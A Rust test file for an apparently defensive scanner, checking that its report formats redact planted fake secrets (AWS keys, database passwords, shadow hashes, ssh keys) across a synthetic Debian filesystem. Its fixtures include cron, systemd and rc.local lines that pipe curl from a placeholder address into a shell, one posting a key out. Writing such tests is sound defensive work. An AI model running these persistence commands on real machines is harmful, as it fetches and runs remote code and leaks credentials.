//! No secret is in any report unless it was asked for: secrets of many kinds are planted, beside and within each
//! other, and every format is searched for every one of them, in every form that formats and images write.

#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "a panic in a test is a failed test"
)]

use crate::oracle::skipped::skip;
use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::process::Command;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD_NO_PAD;
use serde_json::Value;

/// The formats that can be made of a tree: a statement of in-toto needs a file.
fn formats() -> impl Iterator<Item = &'static str> {
    assay::report::FORMATS.iter().filter(|format| !format.needs_file).map(|format| format.name)
}

/// Values that look like secrets, from a fixed seed, so that none is in this file.
struct Maker(u64);

impl Maker {
    fn word(&mut self, len: usize, letters: &[u8]) -> String {
        let mut next = || {
            self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            usize::try_from(self.0 >> 33).unwrap()
        };
        (0..len).map(|_| char::from(letters[next() % letters.len()])).collect()
    }

    fn mixed(&mut self, len: usize) -> String {
        self.word(len, b"abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789")
    }

    fn hex(&mut self, len: usize) -> String {
        self.word(len, b"0123456789abcdef")
    }
}

/// Every secret that is planted.
#[derive(Default)]
struct Planted(Vec<String>);

impl Planted {
    fn plant(&mut self, secret: String) -> String {
        self.0.push(secret.clone());
        secret
    }
}

fn write(root: &Path, path: &str, text: &str) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn percent(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~".contains(&byte);
    text.bytes().map(|b| if plain(b) { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
}

fn tree(root: &Path) -> Planted {
    let (mut make, mut planted) = (Maker(20_260_101), Planted::default());
    write(root, "etc/os-release", "ID=debian\nVERSION_ID=12\nPRETTY_NAME=\"Debian 12\"\n");
    write(root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\nadmin:x:1000:1000::/home/admin:/bin/bash\n");
    credentials(root, &mut make, &mut planted);
    typed(root, &mut make, &mut planted);
    started(root, &mut make, &mut planted);
    keys(root, &mut planted);
    packed(root, &mut make, &mut planted);
    quoted(root, &mut make, &mut planted);
    planted
}

/// A password of letters alone, which nothing in a line tells from a word: only that another finding knows it keeps
/// it out of what is quoted about cron jobs, units and scripts.
fn quoted(root: &Path, make: &mut Maker, planted: &mut Planted) {
    let words = planted.plant(make.word(24, b"abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ"));
    write(root, "srv/plain/.env", &format!("DB_PASSWORD={words}\n"));
    let cron = format!(
        "*/7 * * * * root /tmp/.hidden/sync {words} now\n@reboot root curl http://198.51.100.9/{words} | sh\n"
    );
    write(root, "etc/cron.d/quoted", &cron);
    let unit = format!(
        "[Service]\nExecStart=/var/tmp/.y/agent {words}\nExecStartPre=/bin/sh -c 'curl http://198.51.100.9/{words} | sh'\n"
    );
    write(root, "etc/systemd/system/quoted.service", &unit);
    write(root, "etc/profile.d/quoted.sh", &format!("curl http://198.51.100.9/{words} | bash\n"));
}

/// A secret of its own and a known one, in files of an archive that is packed, and within other texts about it.
fn packed(root: &Path, make: &mut Maker, planted: &mut Planted) {
    let own = planted.plant(make.mixed(26));
    let known = planted.0.get(1).cloned().unwrap();
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    let mut add = |name: &str, text: &str| {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o600);
        tar.append_data(&mut header, name, text.as_bytes()).unwrap();
    };
    add("app/.env", &format!("DB_PASSWORD={own}\nSECRET_KEY={known}\n"));
    add("root/.bash_history", &format!("curl -u ci:{own} https://corp.net/{known}\nexport TOKEN={own}\n"));
    add("app/settings.py", &format!("# {known}\nDATABASE_URL = 'postgres://app:{own}@db.corp.net/app'\n"));
    let bytes = tar.into_inner().unwrap().finish().unwrap();
    fs::create_dir_all(root.join("var/backups")).unwrap();
    fs::write(root.join("var/backups/app.tar.gz"), bytes).unwrap();
}

/// What other commands than `scan` write about `root`: name, text.
fn others(root: &Path, out: &Path) -> Vec<(&'static str, String)> {
    fs::create_dir_all(out).unwrap();
    let (clean, json) = (out.join("clean"), out.join("report.json"));
    write(&clean, "etc/os-release", "ID=debian\nVERSION_ID=12\n");
    let run = |args: &[&std::ffi::OsStr]| {
        let output = Command::new(env!("CARGO_BIN_EXE_assay")).args(args).output().unwrap();
        let err = String::from_utf8(output.stderr).unwrap();
        assert!(matches!(output.status.code(), Some(0 | 1)), "{args:?}: {err}");
        String::from_utf8(output.stdout).unwrap() + &err
    };
    let word = std::ffi::OsStr::new;
    let (root, clean, saved) = (root.as_os_str(), clean.as_os_str(), json.as_os_str());
    run(&[word("scan"), word("--rootfs"), root, word("--format=json"), word("-o"), saved]);
    let mut all = Vec::new();
    for form in ["terminal", "json", "markdown"] {
        let diff = [word("diff"), word("--verbose"), word("--format"), word(form)];
        let images = [&diff[..], &[clean, root]].concat();
        let reports = [&diff[..], &[saved, clean]].concat();
        all.extend([("diff of trees", run(&images)), ("diff with a report", run(&reports))]);
    }
    all.push(("fix", run(&[word("fix"), word("--rootfs"), root])));
    all.push(("fix from a report", run(&[word("fix"), saved])));
    let kept = out.join("baseline.toml");
    let said = run(&[word("baseline"), word("--rootfs"), root, word("-o"), kept.as_os_str()]);
    all.push(("baseline", said + &fs::read_to_string(&kept).unwrap()));
    let flags = [word("--rootfs"), root, word("--baseline"), kept.as_os_str(), word("--profile=public-ami")];
    all.push(("scan by a baseline", run(&[&[word("scan"), word("--verbose")], &flags[..]].concat())));
    all
}

/// Files of credentials, also with secrets that formats must escape.
fn credentials(root: &Path, make: &mut Maker, planted: &mut Planted) {
    let awkward = planted.plant(format!("{}&<\"'>|`=+/%@{}", make.mixed(6), make.mixed(6)));
    let plain = planted.plant(make.mixed(22));
    let env = format!("DB_HOST=db\nDB_PASSWORD='{awkward}'\nSECRET_KEY={plain}\n# {plain} again {awkward}\n");
    write(root, "srv/app/.env", &env);
    write(root, "srv/copy/.env", &env);
    let (id, key) = (format!("AKIA{}", make.word(16, b"ABCDEFGHJKLMNPQRSTUVWXYZ234567")), make.mixed(40));
    let (id, key) = (planted.plant(id), planted.plant(key));
    let aws = format!("[default]\naws_access_key_id = {id}\naws_secret_access_key = {key}\n");
    write(root, "root/.aws/credentials", &aws);
    let netrc = planted.plant(make.mixed(18));
    write(root, "root/.netrc", &format!("machine git.corp.net login deploy password {netrc}\n"));
    let git = planted.plant(make.mixed(20));
    write(root, "root/.git-credentials", &format!("https://deploy:{git}@git.corp.net\n"));
    let docker = planted.plant(make.mixed(20));
    let auth = STANDARD_NO_PAD.encode(format!("deploy:{docker}x1"));
    let config = format!("{{\"auths\": {{\"registry.corp.net\": {{\"auth\": \"{auth}\"}}}}}}\n");
    write(root, "root/.docker/config.json", &config);
    let pgpass = planted.plant(make.mixed(16));
    write(root, "home/admin/.pgpass", &format!("db.corp.net:5432:*:app:{pgpass}\n"));
    let mysql = planted.plant(make.mixed(16));
    write(root, "home/admin/.my.cnf", &format!("[client]\nuser=app\npassword={mysql}\n"));
    let psk = planted.plant(make.mixed(16));
    let wifi = format!("[wifi-security]\nkey-mgmt=wpa-psk\npsk={psk}\n");
    write(root, "etc/NetworkManager/system-connections/corp.nmconnection", &wifi);
    let url = planted.plant(format!("{}/{}", make.mixed(8), make.mixed(8)));
    let yaml = format!("database_url: postgres://app:{}@db.corp.net/app\n", percent(&url));
    write(root, "srv/app/config.yaml", &yaml);
}

/// What people typed: several secrets in one line, and those of files again.
fn typed(root: &Path, make: &mut Maker, planted: &mut Planted) {
    let [mysql, bearer, sshpass, export] = [18, 40, 14, 24].map(|len| planted.plant(make.mixed(len)));
    let known = planted.0.first().cloned().unwrap();
    let stripe = planted.plant(format!("sk_live_{}", make.mixed(24)));
    let history = format!(
        "mysql -u root -p{mysql} -h db && curl -H 'Authorization: Bearer {bearer}' https://api.corp.net/{mysql}\n\
         sshpass -p {sshpass} ssh root@10.0.0.5 'echo {sshpass} | sudo -S id'\n\
         export API_TOKEN={export}; echo {stripe} >> .env; curl https://u:{export}@corp.net/?k={}\n\
         echo '{known}'\n",
        percent(&known),
    );
    write(root, "root/.bash_history", &history);
}

/// What starts by itself, with a secret of its own and one of a file in its command line.
fn started(root: &Path, make: &mut Maker, planted: &mut Planted) {
    let [token, password] = [32, 18].map(|len| planted.plant(make.mixed(len)));
    let known = planted.0.get(1).cloned().unwrap();
    let cron = format!(
        "*/5 * * * * root curl -s -u sync:{password} https://198.51.100.7/x?token={token}&again={known} | sh\n\
         @reboot root /tmp/.hidden/run --password={password} --token {token} {}\n",
        STANDARD_NO_PAD.encode(format!("user:{known}"))
    );
    write(root, "etc/cron.d/sync", &cron);
    let unit =
        format!("[Service]\nEnvironment=TOKEN={token}\nExecStart=/var/tmp/.x/agent --secret {password}\n");
    write(root, "etc/systemd/system/agent.service", &unit);
    let tunnel = planted.plant(make.hex(40));
    write(
        root,
        "etc/rc.local",
        &format!("#!/bin/sh\ncurl https://198.51.100.7/{known} -d key={tunnel} | bash\n"),
    );
}

/// Hashes of passwords, and keys.
fn keys(root: &Path, planted: &mut Planted) {
    let mut make = Maker(7);
    let letters = b"./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    let hash = format!("$6${}${}", make.word(16, letters), make.word(86, letters));
    let hash = planted.plant(hash);
    write(root, "etc/shadow", &format!("root:{hash}:19000:0:99999:7:::\nadmin:!:19000:0:99999:7:::\n"));
    let path = root.join("root/.ssh/id_ed25519");
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let made = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "x", "-f"])
        .arg(&path)
        .status();
    if made.is_ok_and(|status| status.success()) {
        let text = fs::read_to_string(&path).unwrap();
        planted
            .0
            .extend(text.lines().filter(|line| line.len() > 40 && !line.starts_with('-')).map(str::to_owned));
    } else {
        skip("ssh-keygen", "openssh-client");
    }
}

/// Every report of `root`, with more flags: format, text.
fn reports(root: &Path, out: &Path, more: &[&str]) -> Vec<(&'static str, String)> {
    fs::create_dir_all(out).unwrap();
    let names: Vec<&str> = formats().collect();
    let to = |format: &&str| format!("--format={format}={}", out.join(format).display());
    let to: Vec<String> = names.iter().map(to).collect();
    let mut command = Command::new(env!("CARGO_BIN_EXE_assay"));
    command
        .args(["scan", "--verbose", "--benchmark", "cis-debian12", "--rootfs"])
        .arg(root)
        .args(&to)
        .args(more);
    let output = command.output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", String::from_utf8_lossy(&output.stderr));
    let printed = String::from_utf8(output.stdout).unwrap() + &String::from_utf8(output.stderr).unwrap();
    let read = |format: &str| fs::read_to_string(out.join(format)).unwrap();
    let files = formats().map(|format| (format, read(format)));
    files.chain([("standard output", printed)]).collect()
}

/// The forms in which formats and images write `secret`.
fn forms(secret: &str) -> BTreeSet<String> {
    let json = serde_json::to_string(secret).unwrap();
    let html = secret.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let xml = html.replace('"', "&quot;").replace('\'', "&apos;");
    let page = html.replace('"', "&#34;").replace('\'', "&#39;");
    let numbers: String = (secret.chars())
        .map(|c| if "&<>\"'".contains(c) { format!("&#{};", u32::from(c)) } else { c.to_string() })
        .collect();
    let markdown = |c: char| match c {
        '@' => "<!-- -->&#64;".to_owned(),
        c if c.is_ascii_alphanumeric() || " ,;()-/=+?".contains(c) => c.to_string(),
        c => format!("&#{};", u32::from(c)),
    };
    let reference = |c: char| match c {
        'a'..='z' | 'A'..='Z' | '0'..='9' => c.to_string(),
        c => format!("&#{};", u32::from(c)),
    };
    let mut forms = BTreeSet::from([
        secret.to_owned(),
        json.trim_matches('"').to_owned(),
        html,
        xml,
        page,
        numbers,
        secret.chars().map(reference).collect(),
        secret.chars().map(markdown).collect(),
        percent(secret),
        percent(secret).to_ascii_lowercase(),
        secret.replace('"', "\"\""),
        secret.bytes().map(|byte| format!("{byte:02x}")).collect(),
    ]);
    for skip in 0..3 {
        let inner = &secret.as_bytes()[skip..];
        forms.insert(STANDARD_NO_PAD.encode(&inner[..inner.len() - inner.len() % 3]));
    }
    forms
}

#[test]
fn no_format_holds_a_planted_secret_unless_it_was_asked_for() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("tree");
    let planted = tree(&root);
    assert!(planted.0.len() >= 20);
    let mut leaks = Vec::new();
    let all = reports(&root, &dir.path().join("default"), &[]);
    for (format, text) in all.into_iter().chain(others(&root, &dir.path().join("others"))) {
        for secret in &planted.0 {
            let found = forms(secret).into_iter().find(|form| text.contains(form.as_str()));
            leaks.extend(found.map(|form| {
                let at = text.find(&form).unwrap();
                let from =
                    (0..=at.saturating_sub(80)).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
                format!("{format}: {}", text[from..at + form.len()].replace('\n', " "))
            }));
        }
    }
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
}

#[test]
fn every_format_of_findings_shows_secrets_when_asked_to() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("tree");
    let planted = tree(&root);
    let all = reports(&root, &dir.path().join("shown"), &["--show-secrets"]);
    let json = &all.iter().find(|(format, _)| *format == "json").unwrap().1;
    let report: Value = serde_json::from_str(json).unwrap();
    let values: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|finding| finding["evidence"]["values"].as_array().unwrap())
        .map(|value| value.as_str().unwrap())
        .collect();
    let known: Vec<&String> = planted
        .0
        .iter()
        .filter(|secret| values.iter().any(|value| value.contains(secret.as_str())))
        .collect();
    assert!(known.len() >= 18, "{} of {}", known.len(), planted.0.len());
    for (format, text) in &all {
        for secret in &known {
            let is_shown = forms(secret).iter().any(|form| text.contains(form));
            // Evidence never does, and lists of software have no such findings.
            let is_without = ["evidence", "cyclonedx", "spdx", "gitlab"].contains(format);
            assert_eq!(is_shown, !is_without, "{format}: {secret}");
        }
    }
}
